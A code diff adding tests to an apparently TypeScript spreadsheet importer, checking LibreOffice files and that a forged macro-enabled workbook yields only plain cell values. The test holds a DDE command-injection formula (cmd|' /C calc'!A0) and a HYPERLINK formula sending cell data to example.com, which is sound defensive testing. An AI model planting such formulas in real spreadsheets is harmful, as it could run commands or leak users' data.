@@ -63,6 +63,25 @@ test("what was written for people to fill in is read as it was", async () => {
   });
 });
 
+test.each(["quantities.xlsx", "quantities.xls"])(
+  "%s, which LibreOffice wrote, comes in as it stands there",
+  async (name) => {
+    const sheet = await readImport(await readFile(`tests/data/files/${name}`));
+    const day = (shown: string, exact: string) => [shown, `${exact} 00:00:00`];
+    expect(sheet).toEqual({
+      ok: true,
+      value: [
+        ["Quantities of pier 4"],
+        ["Item", "Unit", "Quantity", "Delivered on"],
+        ["Concrete 混凝土", "m³", ["12.50", "12.5"], day("04.03.2026", "2026-03-04")],
+        ["Anchor bolts", "pcs", ["16.00", "16"], day("09.03.2026", "2026-03-09")],
+        ["Reinforcement", "kg", ["840.00", "840"], day("21.11.2026", "2026-11-21")],
+        ["Total", "", ["868.50", "868.5"]],
+      ],
+    });
+  },
+);
+
 test("100,000 lines, nothing at all, and what is no sheet are told apart", async () => {
   const many = "a,b\n".repeat(100_000);
   expect(await readImport(bytes(many))).toEqual({ ok: false, error: "tooManyLines" });
@@ -85,4 +104,25 @@ async function forged(change: (xml: string) => string): Promise<Uint8Array> {
 test("a sheet that lies about its size is read for what stands in it", async () => {
   const lie = await forged((xml) => xml.replace(/ref="[^"]*"/, 'ref="A1:XFD1048576"'));
   expect(await readImport(lie)).toEqual({ ok: true, value: [["a"], ["b"]] });
+});
+
+test("of a workbook with macros, links to others and formulas that reach out only what stands in it is read", async () => {
+  const zip = await JSZip.loadAsync(
+    bookOf({
+      "!ref": "A1:B2",
+      A1: { t: "s", v: "name" },
+      A2: { t: "s", v: "Doors", f: 'HYPERLINK("https://example.com/?"&A1,"Doors")' },
+      B2: { t: "n", v: 4, f: "cmd|' /C calc'!A0" },
+    }),
+  );
+  zip.file("xl/vbaProject.bin", Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1));
+  const types = (await zip.file("[Content_Types].xml")?.async("string")) ?? "";
+  const withMacros = types.replaceAll(
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
+    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+  );
+  expect(withMacros).not.toBe(types);
+  zip.file("[Content_Types].xml", withMacros);
+  const content = await zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
+  expect(await readImport(content)).toEqual({ ok: true, value: [["name"], ["Doors", "4"]] });
 });
